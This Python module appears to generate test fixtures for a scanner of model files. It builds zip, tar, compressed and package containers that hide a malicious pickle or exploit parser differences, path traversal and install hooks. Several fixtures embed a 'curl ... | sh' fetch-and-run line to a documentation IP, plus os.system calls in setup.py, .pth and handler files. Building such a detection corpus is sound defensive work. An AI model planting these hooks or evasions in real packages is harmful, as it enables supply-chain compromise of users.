"""Attack shapes: zip, tar and compressed files that two readers read differently, or that hide a pickle."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib

from judge_kit import Folder, crc, notebook, stored, tarred, torch_zip, zipped
from second_attacks_base import ECHO, bad

BAD = bad(2)
GOOD = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."
SH = f"#!/bin/sh\n{ECHO}\n".encode()


def local(
    path: bytes, data: bytes, flags: int = 0, extra: bytes = b"", method: int = 0, raw: bytes | None = None
) -> bytes:
    """A local header and its data; `raw` is what is stored for `data`."""
    kept = data if raw is None else raw
    sizes = (0, 0, 0) if flags & 8 else (crc(data), len(kept), len(data))
    return (
        struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, method, 0, 0x5821, *sizes, len(path), len(extra))
        + path
        + extra
        + kept
    )


def central(
    path: bytes, data: bytes, at: int, extra: bytes = b"", method: int = 0, size: int | None = None, flags: int = 0
) -> bytes:
    """A central directory entry for `data` whose local header is at `at`."""
    kept = len(data) if size is None else size
    head = (
        0x02014B50,
        20,
        20,
        flags,
        method,
        0,
        0x5821,
        crc(data),
        kept,
        len(data),
        len(path),
        len(extra),
        0,
        0,
        0,
        0,
        at,
    )
    return struct.pack("<IHHHHHHIIIHHHHHII", *head) + path + extra


def ended(body: bytes, directory: bytes, count: int, comment: bytes = b"") -> bytes:
    """The body, its directory and the end record."""
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), len(body), len(comment))
    return body + directory + end + comment


def frame_zstd(data: bytes) -> bytes:
    """A Zstandard frame of one raw block."""
    return struct.pack("<IBI", 0xFD2FB528, 0xA0, len(data)) + struct.pack("<I", len(data) << 3 | 1)[:3] + data


def frame_lz4(data: bytes) -> bytes:
    """An LZ4 frame of one uncompressed block."""
    return struct.pack("<IBBB", 0x184D2204, 0x60, 0x40, 0x82) + struct.pack("<I", len(data) | 1 << 31) + data + bytes(4)


def zips() -> dict[str, bytes]:
    """Zip files; `model.pt` unless the shape names another file."""
    root, size = b"archive/data.pkl", len(BAD)
    version = local(b"archive/version", b"3\n")
    inner = local(root, BAD)
    same = max(len(GOOD), len(BAD))
    quiet, loud = GOOD.ljust(same, b"\0"), BAD.ljust(same, b"\0")
    shifted = local(root, loud, 0, b"\xfe\xca" + struct.pack("<H", len(quiet)) + quiet)
    offset64 = struct.pack("<HHQ", 1, 8, len(local(root, quiet)))
    two = local(root, quiet) + local(root, loud)
    far = central(root, loud, 0xFFFFFFFF, offset64)
    plain = zipped({"archive/data.pkl": BAD, "archive/version": b"3\n"})
    described = (
        local(b"archive/data/0", b"", 8) + inner + struct.pack("<IIII", 0x08074B50, crc(inner), len(inner), len(inner))
    )
    packed = frame_zstd(BAD)
    return {
        "data-start-differs": ended(shifted, central(root, loud, 0), 1),
        "zip64-offset": ended(two, far, 1),
        "descriptor-hides-entry": ended(
            described + version,
            central(root, BAD, len(local(b"archive/data/0", b"", 8)))
            + central(b"archive/version", b"3\n", len(described)),
            2,
        ),
        "zstd-member": ended(local(root, BAD, 0, b"", 93, packed), central(root, BAD, 0, b"", 93, len(packed)), 1),
        "upper-case-pickle": zipped(
            {"archive/DATA.PKL": BAD, "archive/version": b"3\n", "archive/byteorder": b"little"}
        ),
        "executable-before": b"MZ" + bytes(510) + plain,
        "comment-long": plain[:-2] + struct.pack("<H", 40000) + b"x" * 40000,
        "directory-with-gap": ended(inner + bytes(64), central(root, BAD, 0), 1),
        "member-named-like-weights": zipped(
            {"archive/data/0": BAD, "archive/data.pkl": GOOD[:-1] + b"0N.", "extra/data.pkl": BAD}
        ),
        "deep-folder": zipped({"/".join(["a"] * 60) + "/data.pkl": BAD}),
        "no-extension-inside": zipped({"m/estimator": BAD, "m/README": b"model\n"}),
        "dot-file-inside": zipped({".metadata": BAD}),
        "trailing-slash-file": zipped({"archive/data.pkl/": b"", "archive/data.pkl": BAD}),
        "gz-in-zip": zipped({"model.pkl.gz": gzip.compress(BAD, mtime=0)}),
        "tar-in-zip": zipped({"m.tar": tarred({"x/model.pkl": BAD})}),
        "notebook-in-zip": zipped({"a.ipynb": notebook("!curl -s http://198.51.100.7/assay-second | sh")}),
        "size-field-wraps": ended(inner, central(root, BAD, 0, struct.pack("<HHQQ", 1, 16, size, size)), 1),
        "python-app": b"#!/usr/bin/env python3\n"
        + zipped({"__main__.py": f"import os\nos.system({ECHO!r})\n".encode()}),
    }


def packages() -> dict[str, Folder]:
    """Archives that a tool installs or serves, so that their scripts run."""
    handler = f"import os\n\nos.system({ECHO!r})\n\n\nclass H:\n    pass\n".encode()
    manifest = b'{"runtime": "python", "model": {"modelName": "m", "handler": "handler.py", "serializedFile": "w.pt"}}'
    start = f"import os; os.system({ECHO!r})\n".encode()
    wheel = {
        "tiny/__init__.py": b"",
        "tiny.pth": start,
        "tiny-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: tiny\nVersion: 1.0\n",
    }
    setup = f"from setuptools import setup\nimport os\n\nos.system({ECHO!r})\nsetup(name='tiny')\n".encode()
    script = '{"name": "tiny", "scripts": {"postinstall": "curl -s http://198.51.100.7/assay-second | sh"}}'
    egg = {"EGG-INFO/PKG-INFO": b"Name: tiny\n", "tiny/__init__.py": handler}
    return {
        "package--mar-handler": {
            "model.mar": zipped({"MAR-INF/MANIFEST.json": manifest, "handler.py": handler, "w.pt": torch_zip(GOOD)})
        },
        "package--mar-weights": {
            "model.mar": zipped(
                {"MAR-INF/MANIFEST.json": manifest, "handler.py": b"H = None\n", "w.pt": torch_zip(BAD)}
            )
        },
        "package--conda-link-script": {
            "tiny-1.0-0.tar.bz2": tarred(
                {
                    "info/index.json": b'{"name": "tiny"}',
                    "bin/.tiny-post-link.sh": b"#!/bin/sh\ncurl -s http://198.51.100.7/assay-second | sh\n",
                },
                "w:bz2",
            )
        },
        "package--wheel-path-file": {"dist/tiny-1.0-py3-none-any.whl": zipped(wheel)},
        "package--source-archive": {
            "dist/tiny-1.0.tar.gz": gzip.compress(
                tarred({"tiny-1.0/setup.py": setup, "tiny-1.0/PKG-INFO": b"Name: tiny\n"}), mtime=0
            )
        },
        "package--npm-postinstall": {
            "tiny-1.0.0.tgz": gzip.compress(tarred({"package/package.json": script.encode()}), mtime=0)
        },
        "package--egg": {"tiny-1.0-py3.11.egg": zipped(egg)},
        "package--bento": {
            "churn.bento": tarred(
                {
                    "bento.yaml": b"service: service:svc\nname: churn\n",
                    "src/service.py": handler,
                    "models/m/saved_model.pkl": BAD,
                }
            )
        },
        "package--webdataset": {"train-000.tar": tarred({"0001.jpg": b"\xff\xd8\xff\xd9", "0001.pyd": BAD})},
        "package--conda-zip": {
            "tiny-1.0-0.conda": zipped(
                {
                    "metadata.json": b'{"conda_pkg_format_version": 2}',
                    "pkg-tiny-1.0-0.tar.zst": frame_zstd(tarred({"lib/python3.11/site-packages/tiny.pth": start})),
                }
            )
        },
    }


def old_header(path: str, data: bytes) -> bytes:
    """A tar of before POSIX: no magic at all."""
    head = bytearray(512)
    head[: len(path)] = path.encode()
    head[100:108], head[108:116], head[116:124] = b"0000644\0", b"0000000\0", b"0000000\0"
    head[124:136], head[136:148] = b"%011o\0" % len(data), b"00000000000\0"
    head[148:156] = b" " * 8
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head) + data + bytes(-len(data) % 512) + bytes(1024)


def tar_with(members: list[tuple[tarfile.TarInfo, bytes]], fmt: int = tarfile.PAX_FORMAT, **pax: str) -> bytes:
    """A tar of made members, with global pax headers."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=fmt, pax_headers=pax) as archive:
        for info, data in members:
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def entry(title: str, kind: bytes = tarfile.REGTYPE, link: str = "", **pax: str) -> tarfile.TarInfo:
    """One tar member's header."""
    info = tarfile.TarInfo(title)
    info.type, info.linkname, info.pax_headers = kind, link, pax
    return info


def tars() -> dict[str, bytes]:
    """Tar files, `weights.tar`."""
    both = {"storages": BAD, "tensors": GOOD, "pickle": GOOD}
    renamed = entry("readme.txt", path="model/model.pkl")
    return {
        "before-posix": old_header("model.pkl", BAD),
        "pax-rename": tar_with([(renamed, BAD)]),
        "global-pax-path": tar_with([(entry("a.txt"), BAD)], path="../../assay-second.pkl"),
        "windows-absolute": tarred({"C:\\Users\\Public\\start.pkl": BAD}),
        "climbing-middle": tarred({"model/data/../../../assay-second.py": SH}),
        "same-name-twice": tar_with([(entry("m/model.pkl"), GOOD), (entry("m/model.pkl"), BAD)]),
        "link-to-parent": tar_with(
            [(entry("m/cache", tarfile.SYMTYPE, "../../.."), b""), (entry("m/cache/.bashrc"), SH)]
        ),
        "link-relative-deep": tar_with([(entry("a/b/c", tarfile.SYMTYPE, "../../../../etc/passwd"), b"")]),
        "hard-link-outside": tar_with([(entry("weights.bin", tarfile.LNKTYPE, "/etc/passwd"), b"")]),
        "fifo": tar_with([(entry("weights.bin", tarfile.FIFOTYPE), b"")]),
        "contiguous-type": tar_with([(entry("model.pkl", tarfile.CONTTYPE), BAD)], tarfile.GNU_FORMAT),
        "unknown-type": tar_with([(entry("model.pkl", b"Z"), BAD)], tarfile.GNU_FORMAT),
        "torch-storages": tarred(both),
        "torch-tensors": tarred({"storages": GOOD, "tensors": BAD, "pickle": GOOD}),
        "zst": frame_zstd(tarred({"model.pkl": BAD})),
        "lz4": frame_lz4(tarred({"model.pkl": BAD})),
        "gz-twice": gzip.compress(gzip.compress(tarred({"model.pkl": BAD}), mtime=0), mtime=0),
        "behind-padding": tarred({"readme.txt": b"x" * 20000, "deep/er/model": BAD}),
    }


def compressed() -> dict[str, Folder]:
    """Compressed streams with odd but lawful parts."""
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    raw = deflated.compress(BAD) + deflated.flush()
    tail = raw + struct.pack("<II", crc(BAD), len(BAD))
    fields = b"\x1f\x8b\x08\x1e" + bytes(6) + struct.pack("<H", 4) + b"AB\0\0" + b"data.csv\0note\0"
    fields += struct.pack("<H", crc(fields) & 0xFFFF)
    empty = gzip.compress(b"", mtime=0)
    skip = struct.pack("<II", 0x184D2A53, 4) + b"note"
    return {
        "compressed--gz-all-fields": {"model.pkl": fields + tail},
        "compressed--gz-empty-first": {"model.pkl.gz": empty + gzip.compress(BAD, mtime=0)},
        "compressed--gz-zero-padding": {
            "model.pkl.gz": gzip.compress(GOOD, mtime=0) + bytes(9) + gzip.compress(BAD, mtime=0)
        },
        "compressed--bz2-empty-first": {"model.joblib": bz2.compress(b"") + bz2.compress(BAD)},
        "compressed--xz-sha": {"model.joblib": lzma.compress(BAD, check=lzma.CHECK_SHA256)},
        "compressed--lz4-skippable": {"model.joblib": skip + frame_lz4(BAD)},
        "compressed--zstd-raw-block": {"model.pkl.zst": frame_zstd(BAD)},
        "compressed--pandas-tar-gz": {"frame.pkl.tar.gz": gzip.compress(tarred({"frame.pkl": BAD}), mtime=0)},
        "compressed--pandas-tar-bz2": {"frame.pkl.tar.bz2": bz2.compress(tarred({"frame.pkl": BAD}))},
        "compressed--zlib-named-csv": {"table.csv": zlib.compress(BAD, 1)},
        "compressed--three-kinds": {"model.pkl": gzip.compress(bz2.compress(lzma.compress(BAD)), mtime=0)},
        "compressed--gz-torn-after-payload": {
            "model.pkl.gz": gzip.compress(BAD[:-1] + b"0" + b"K\x01" * 9000, mtime=0)[:-6]
        },
        "compressed--bz2-torn-after-payload": {
            "model.pkl.bz2": (bz2.compress(BAD[:-1] + bytes(range(256)) * 4000))[:-10]
        },
    }


def shapes() -> dict[str, Folder]:
    """The containers of this part and the stored files."""
    from second_attacks_stored import PACKED

    made: dict[str, Folder] = {}
    for path, data in stored(PACKED).items():
        shape, inner = path.split("/", 1)
        made.setdefault(shape, {})[inner] = data
    for key, data in zips().items():
        made[f"zip--{key}"] = {"model.pyz" if key == "python-app" else "model.pt": data}
    for key, data in tars().items():
        made[f"tar--{key}"] = {"model.pt" if key.startswith("torch") else "weights.tar": data}
    return made | packages() | compressed()
